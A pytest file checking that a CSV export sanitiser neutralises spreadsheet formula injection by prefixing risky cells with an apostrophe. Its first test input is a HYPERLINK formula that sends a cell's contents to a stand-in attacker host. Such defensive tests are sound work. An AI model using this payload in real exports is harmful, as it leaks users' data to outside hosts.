"""CSV cells that a spreadsheet would run as formulas are written as text."""

from __future__ import annotations

import csv
import io

import pytest

from moneytrail.web.csv_export import csv_bytes, escape_cell


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?d="&A1,"clic")',
            '\'=HYPERLINK("http://evil.example/?d="&A1,"clic")',
        ),
        ("+223 76 12 34 56", "'+223 76 12 34 56"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Élise N'Diaye — عبد الله", "Élise N'Diaye — عبد الله"),
        ("1250000.00", "1250000.00"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
    ],
)
def test_escape_cell(cell: object, written: str) -> None:
    assert escape_cell(cell) == written


def test_csv_file_reads_back_with_the_formula_neutralised() -> None:
    data = csv_bytes(["name", "amount"], [['=HYPERLINK("x")', "10"], ["عبد الله", "5,5"]])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["name", "amount"], ['\'=HYPERLINK("x")', "10"], ["عبد الله", "5,5"]]
